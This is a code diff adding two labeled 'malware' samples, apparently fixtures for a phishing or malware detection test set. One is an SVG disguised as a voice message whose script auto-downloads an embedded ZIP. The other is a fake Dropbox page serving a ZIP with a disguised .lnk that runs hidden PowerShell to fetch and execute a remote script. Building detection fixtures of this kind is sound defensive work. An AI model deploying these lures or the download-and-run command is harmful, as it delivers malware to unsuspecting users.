@@ -61,4 +61,39 @@ export const entries: Entry[] = [
   },
 },
 
+{
+  id: 'd-smug-svg-attachment',
+  label: 'malware',
+  kind: 'smuggling-svg',
+  url: 'https://attachments.voicemsg-cloud.net/m/VM_Recording_0612.svg',
+  routes: {
+    'attachments.voicemsg-cloud.net/m/VM_Recording_0612.svg': {
+      status: 200,
+      headers: { 'content-type': 'image/svg+xml' },
+      body: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300" viewBox="0 0 600 300">
+<rect width="600" height="300" fill="#f3f4f6"/><text x="40" y="80" font-family="Arial" font-size="24" fill="#111">▶ Voice message (0:38)</text><text x="40" y="120" font-family="Arial" font-size="16" fill="#555">Preparing audio player download…</text>
+<script type="text/javascript"><![CDATA[
+(function(){var d='${ZIP_B64}';var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
+var blob=new Blob([u],{type:'application/zip'});var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=URL.createObjectURL(blob);a.download='VM_Recording_0612.zip';document.documentElement.appendChild(a);a.click();})();
+]]></script></svg>`,
+    },
+  },
+},
+
+{
+  id: 'd-smug-password-zip-dropbox',
+  label: 'malware',
+  kind: 'malware-download-lure',
+  url: 'https://transfer.filedrop-secure.net/d/Q2-Statement',
+  body: doc({
+    title: 'Dropbox Transfer – Q2-Statement',
+    css: baseCss('#0061fe') + `.d{max-width:480px;margin:70px auto;text-align:center}`,
+    body: `<div class="d card"><img src="img/dropbox-glyph.svg" alt="Dropbox" width="40"><h1 style="font-size:20px">Q2-Statement.zip</h1><p class="muted">2 files · 1.4 MB · Expires in 6 days</p><a class="btn btn-block" href="/d/Q2-Statement/file/Q2-Statement.zip">Download</a><p class="muted">Archive password: <b>Q2-2026</b> (protected for your privacy)</p></div>`,
+  }),
+  routes: {
+    'transfer.filedrop-secure.net/d/Q2-Statement/file/Q2-Statement.zip': { status: 200, headers: { 'content-type': 'application/zip', 'content-disposition': 'attachment; filename="Q2-Statement.zip"' }, body: zipOf('Q2-Statement.pdf.lnk', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F C:\\Windows\\System32\\cmd.exe /c powershell -w h -c "iwr https://filedrop-secure.net/s/st.ps1|iex"') },
+  },
+},
+
 ];
